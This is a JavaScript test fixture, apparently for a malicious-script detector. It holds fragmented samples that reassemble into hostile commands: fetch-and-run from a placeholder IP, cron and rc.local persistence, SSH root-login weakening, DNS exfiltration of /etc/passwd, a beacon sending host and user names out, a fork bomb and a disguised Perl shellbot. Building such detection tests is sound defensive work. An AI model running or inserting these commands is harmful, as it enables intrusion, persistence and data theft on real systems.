/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'Script_History_Off_And_Fetch',
    lines: [
      ["#!/bin/sh"],
      ["unset HIST", "FILE"],
      ["cu", "rl -s http://192.0.2.7/a | ba", "sh"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Disables_Security',
    lines: [
      ["#!/bin/sh"],
      ["setenf", "orce 0"],
      ["ufw dis", "able"],
      ["ipta", "bles -F"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Obfuscated_Ifs_Variables',
    lines: [
      ["cd${I", "FS}/tmp;wg", "et${I", "FS}http://192.0.2.7/a${I", "FS}-O${IFS}b"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Hex_Escapes_Eval',
    lines: [
      ["ev", "al \"$(prin", "tf '\\x65\\x63\\x68\\x6f\\x20\\x65\\x63\\x68\\x6f\\x20\\x65\\x63\\x68\\x6f\\x20\\x65\\x63\\x68\\x6f\\x20\\x65\\x63')\""],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Rev_Pipe_Shell',
    lines: [
      ["ec", "ho 'a/7.2.0.291//:ptth lruc' | re", "v | ba", "sh"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Python_Marshal_Exec',
    lines: [
      ["ex", "ec(mar", "shal.loads(b'x'))"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Fork_Bomb',
    lines: [
      [":(){ :", "|:& };:"],
    ],
    without: 0,
  },
  {
    rule: 'Script_At_Job_Fetch',
    lines: [
      ["echo \"cu", "rl -s http://192.0.2.7/a | sh\" | a", "t now + 5 minutes"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Cron_Install_Pipe',
    lines: [
      ["(cron", "tab -l; echo \"*/5 * * * * cu", "rl -s http://192.0.2.7/a|sh\") | cron", "tab -"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Rc_Local_Persistence',
    lines: [
      ["echo \"/tm", "p/.x/run &\" >> /etc/rc.lo", "cal"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Ssh_Config_Weaken',
    lines: [
      ["#!/bin/sh"],
      ["sed -i 's/x/PermitRoot", "Login yes/' /etc/ssh/ss", "hd_config"],
      ["echo root:a | chpas", "swd; system", "ctl restart sshd"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Dns_Exfil_Loop',
    lines: [
      ["base", "64 -w 60 /etc/passwd | while re", "ad l; do di", "g +short $l.x.example.com; done"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Npm_Beacon',
    lines: [
      ["const d = os.host", "name() + os.user", "Info().username;"],
      ["https.g", "et(\"https://abc.oast", "ify.com/?d=\" + d);"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Sed_Hosts_Block_Updates',
    lines: [
      ["echo \"0.0.0.0 database.clam", "av.net\" >> /etc/ho", "sts"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Script_Perl_Fork_Shellbot',
    lines: [
      ["#!/usr/bin/", "perl"],
      ["$0 = \"/usr/sbin/ht", "tpd\"; my $pid = fo", "rk; $SIG{'IN", "T'} = 'IGNORE';"],
      ["IO::Socket::IN", "ET->new(PeerAddr => \"192.0.2.7\");"],
    ],
    without: 0,
  },
];
